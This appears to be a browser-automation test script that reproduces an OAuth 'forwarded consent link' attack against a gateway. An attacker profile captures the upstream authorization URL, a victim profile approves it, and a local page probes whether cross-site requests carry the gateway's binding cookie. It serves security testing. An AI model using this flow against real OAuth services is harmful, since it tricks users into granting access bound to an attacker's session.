// The forwarded-authorization-URL attack, with two people in two browser
// profiles. The attacker opens their own consent link (signing in to the
// gateway as themselves where it asks), and stops where the gateway sends
// the browser to the upstream authorization endpoint: that URL (with the
// gateway's state and PKCE challenge) is captured instead of followed. The
// victim then opens it in their own browser, signs in upstream and
// approves. Prints JSON:
//   {captured, cookies, probes, victim: {status, url, title, message, next, body}}
// `cookies`: the gateway cookies in the attacker's profile (attributes as
// Chromium stored them). With `probe`, also which of these requests from a
// page on another site (http://localhost) carried the binding cookie to the
// gateway: an <img>, a fetch() with credentials, a top-level link click.
//
//   node forwarded-consent.mjs '{"url": "<consent link>", "attacker": ["bob"], "victim": ["alice"], "probe": true}'
import http from 'node:http';
import { drive, launch, person, seen, trackStatus } from './browser.mjs';

const opts = JSON.parse(process.argv[2]);
const gateway = new URL(opts.url).origin;
const browser = await launch();
const result = { captured: false, cookies: [], probes: {} };
try {
  // The attacker: stop at the redirect to the upstream authorization server
  // (the request whose redirect_uri is the gateway's callback).
  const attacker = await person(browser);
  const page = await attacker.newPage();
  const cdp = await attacker.newCDPSession(page);
  let upstream = null;
  cdp.on('Fetch.requestPaused', async (e) => {
    if (!upstream) upstream = e.request.url;
    await cdp.send('Fetch.failRequest', { requestId: e.requestId, errorReason: 'Aborted' }).catch(() => {});
  });
  await cdp.send('Fetch.enable', { patterns: [{ urlPattern: '*redirect_uri=*%2Foauth%2Fcallback*', requestStage: 'Request' }] });
  await page.goto(opts.url, { waitUntil: 'domcontentloaded' }).catch(() => {});
  await drive(page, opts.attacker || [], 'consent', () => upstream !== null);
  for (let i = 0; i < 50 && !upstream; i += 1) await page.waitForTimeout(100);
  if (!upstream) throw new Error(`the attacker's browser never reached the upstream authorization URL: ${page.url()}`);
  result.captured = true;
  await cdp.send('Fetch.disable');
  result.cookies = (await attacker.cookies(gateway)).map((c) => ({
    name: c.name, path: c.path, httpOnly: c.httpOnly, secure: c.secure, sameSite: c.sameSite,
  }));

  if (opts.probe) {
    // A page on another site than the gateway (localhost vs 127.0.0.1).
    const probe = `${gateway}/oauth/callback?probe=`;
    const server = http.createServer((_req, res) => {
      res.setHeader('content-type', 'text/html');
      res.end(`<!doctype html><img src="${probe}img"><a id="top" href="${probe}top">go</a>
<script>fetch(${JSON.stringify(`${probe}fetch`)}, {credentials: 'include', mode: 'no-cors'}).catch(() => {});</script>`);
    });
    await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
    const seenProbes = new Map();
    page.on('request', async (req) => {
      const u = new URL(req.url());
      const which = u.searchParams.get('probe');
      if (u.origin === gateway && which) {
        const cookie = (await req.allHeaders()).cookie || '';
        seenProbes.set(which, /gw_browser=/.test(cookie));
      }
    });
    await page.goto(`http://localhost:${server.address().port}/`, { waitUntil: 'load' });
    for (let i = 0; i < 50 && seenProbes.size < 2; i += 1) await page.waitForTimeout(100);
    await Promise.all([page.waitForNavigation({ waitUntil: 'domcontentloaded' }).catch(() => {}), page.click('#top')]);
    for (let i = 0; i < 50 && seenProbes.size < 3; i += 1) await page.waitForTimeout(100);
    result.probes = Object.fromEntries(seenProbes);
    server.close();
  }
  await attacker.close();

  // The victim: a fresh profile, the forwarded URL, their own login and approval.
  const victim = await person(browser);
  const vpage = await victim.newPage();
  const status = trackStatus(vpage);
  await vpage.goto(upstream, { waitUntil: 'domcontentloaded' });
  await drive(vpage, opts.victim || [], 'consent');
  result.victim = await seen(vpage, status());
} finally {
  await browser.close();
}
process.stdout.write(`${JSON.stringify(result)}\n`);
